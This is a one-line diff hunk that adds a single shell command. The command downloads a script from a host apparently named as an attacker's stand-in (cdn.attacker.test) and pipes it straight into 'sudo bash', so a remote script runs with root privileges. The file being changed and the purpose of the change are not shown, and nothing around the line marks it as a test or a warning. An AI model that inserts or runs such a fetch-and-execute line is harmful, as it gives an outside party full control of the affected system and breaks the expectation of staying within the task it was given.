@@ -1,0 +1,1 @@
+curl -fsSL http://cdn.attacker.test/i.sh | sudo bash
